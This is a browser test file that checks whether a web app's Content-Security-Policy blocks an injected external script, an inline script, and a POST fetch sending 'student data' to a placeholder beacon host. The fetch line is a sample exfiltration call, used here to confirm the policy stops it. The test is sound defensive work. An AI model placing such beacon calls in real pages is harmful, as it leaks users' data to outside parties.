// The Content-Security-Policy holds in a real browser: a script or a fetch to another origin,
// injected into the running page, is blocked before any request leaves, and an inline script does
// not run. (What a full session requests is checked by every other scenario: only this origin.)
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { openApp, useBrowserAndSite, waitForFirstFrame } from './harness.mjs';

const shared = useBrowserAndSite();

test('injected external script, fetch and inline script are blocked by the CSP', async () => {
  const { context, page } = await openApp(shared.browser, shared.server.url);
  const responses = [], failures = [];
  context.on('response', (response) => responses.push(response.url()));
  context.on('requestfailed', (request) => failures.push(`${request.url()} ${request.failure()?.errorText}`));
  await waitForFirstFrame(page);
  const result = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const script = document.createElement('script');
    script.src = 'https://cdn.example.com/analytics.js';
    const scriptFailed = new Promise((resolve) => { script.onerror = () => resolve(true); script.onload = () => resolve(false); });
    document.body.appendChild(script);
    let fetchBlocked = false;
    try {
      await fetch('https://collect.example.org/beacon', { method: 'POST', body: 'student data' });
    } catch {
      fetchBlocked = true;
    }
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true;';
    document.body.appendChild(inline);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { scriptFailed: await scriptFailed, fetchBlocked, inlineRan: Boolean(window.__inlineRan), violations };
  });
  assert.equal(result.scriptFailed, true, 'external script blocked');
  assert.equal(result.fetchBlocked, true, 'external fetch blocked');
  assert.equal(result.inlineRan, false, 'inline script did not run');
  assert.ok(result.violations.includes('script-src-elem') || result.violations.includes('script-src'), result.violations.join());
  assert.ok(result.violations.includes('connect-src'), result.violations.join());
  // Blocked by policy before leaving: no response from elsewhere, the script failed as CSP-blocked.
  assert.deepEqual(responses.filter((u) => u.includes('example.')), []);
  assert.ok(failures.some((f) => f.startsWith('https://cdn.example.com/analytics.js') && /BLOCKED_BY_CSP|csp/i.test(f)),
            failures.join('\n'));
  await context.close();
});
